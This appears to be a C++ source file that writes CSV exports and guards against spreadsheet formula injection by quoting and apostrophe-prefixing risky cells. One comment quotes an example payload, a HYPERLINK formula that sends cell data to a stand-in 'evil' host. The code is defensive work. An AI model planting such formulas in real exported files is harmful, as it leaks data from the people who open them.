// RFC 4180 CSV output with a UTF-8 byte-order mark and a guard against formula injection.
#include "interchange/csv_writer.h"

#include "domain/errors.h"

namespace innodesk::interchange {

namespace {

constexpr std::string_view kUtf8Bom = "\xEF\xBB\xBF";

bool IsDigit(char c) {
    return c >= '0' && c <= '9';
}

// Sign, digits, optionally one '.' or ',' and more digits, optionally an exponent.
bool IsSignedNumber(std::string_view text) {
    std::size_t i = 1;  // text[0] is the sign
    const auto digits = [&] {
        const std::size_t start = i;
        while (i < text.size() && IsDigit(text[i])) ++i;
        return i > start;
    };
    if (!digits()) return false;
    if (i < text.size() && (text[i] == '.' || text[i] == ',')) {
        ++i;
        if (!digits()) return false;
    }
    if (i < text.size() && (text[i] == 'e' || text[i] == 'E')) {
        ++i;
        if (i < text.size() && (text[i] == '+' || text[i] == '-')) ++i;
        if (!digits()) return false;
    }
    return i == text.size();
}

bool NeedsQuotes(std::string_view field) {
    // ';' and tab are quoted too so that a reader sniffing the delimiter still finds ','.
    if (field.find_first_of(",;\t\"\r\n") != std::string_view::npos) return true;
    // The reader trims spaces around unquoted cells; quoting keeps them on a round trip.
    return !field.empty() && (field.front() == ' ' || field.back() == ' ');
}

void AppendField(std::string& line, std::string_view field) {
    // A cell such as =HYPERLINK("http://evil/?"&A1) or @SUM(...) in an exported list would be
    // run by Excel when a colleague opens the file (CSV injection). The apostrophe makes the
    // spreadsheet show the cell as text; it is visible, which is the price of safety.
    const bool guard = NeedsFormulaGuard(field);
    const bool quote = NeedsQuotes(field);
    if (quote) line.push_back('"');
    if (guard) line.push_back('\'');
    if (!quote) {
        line.append(field);
        return;
    }
    for (const char c : field) {
        if (c == '"') line.push_back('"');
        line.push_back(c);
    }
    line.push_back('"');
}

void AppendRecord(std::string& line, const std::vector<std::string>& fields) {
    for (std::size_t i = 0; i < fields.size(); ++i) {
        if (i > 0) line.push_back(',');
        AppendField(line, fields[i]);
    }
    line.append("\r\n");
}

}  // namespace

bool NeedsFormulaGuard(std::string_view field) {
    if (field.empty()) return false;
    // A tab or CR first: Excel drops it and reads what follows as a formula.
    if (field.front() == '\t' || field.front() == '\r') return true;
    // Excel and LibreOffice skip leading spaces before '=' ("  =1+1" runs), so look past them.
    const auto first = field.find_first_not_of(' ');
    if (first == std::string_view::npos) return false;
    const std::string_view rest = field.substr(first);
    // The full-width ＝ ＋ － ＠ (U+FF1D, U+FF0B, U+FF0D, U+FF20), which a Vietnamese or East Asian
    // input method types, are taken for their ASCII twins by spreadsheets set up for those languages.
    for (const std::string_view full_width : {"\xEF\xBC\x9D", "\xEF\xBC\x8B", "\xEF\xBC\x8D", "\xEF\xBC\xA0"})
        if (rest.substr(0, full_width.size()) == full_width) return true;
    switch (rest.front()) {
        case '=':
        case '@':
        case '\t':
        case '\r':
            return true;
        case '+':
        case '-':
            return !IsSignedNumber(rest);
        default:
            return false;
    }
}

void WriteCsv(std::ostream& out, const std::vector<std::string>& header,
              const std::vector<std::vector<std::string>>& rows) {
    std::string line(kUtf8Bom);
    AppendRecord(line, header);
    out.write(line.data(), static_cast<std::streamsize>(line.size()));
    for (const auto& row : rows) {
        line.clear();
        AppendRecord(line, row);
        out.write(line.data(), static_cast<std::streamsize>(line.size()));
    }
    out.flush();
    if (!out) {
        throw domain::DomainError(
            domain::ErrorCode::Storage,
            {"Không ghi được tệp CSV: thiết bị lưu trữ báo lỗi (có thể đã đầy đĩa hoặc "
             "mất quyền ghi). Kiểm tra chỗ trống và quyền ghi rồi xuất lại.",
             "The CSV file could not be written: the storage reported an error (the disk "
             "may be full or write access lost). Check free space and permissions, then "
             "export again."});
    }
}

}  // namespace innodesk::interchange
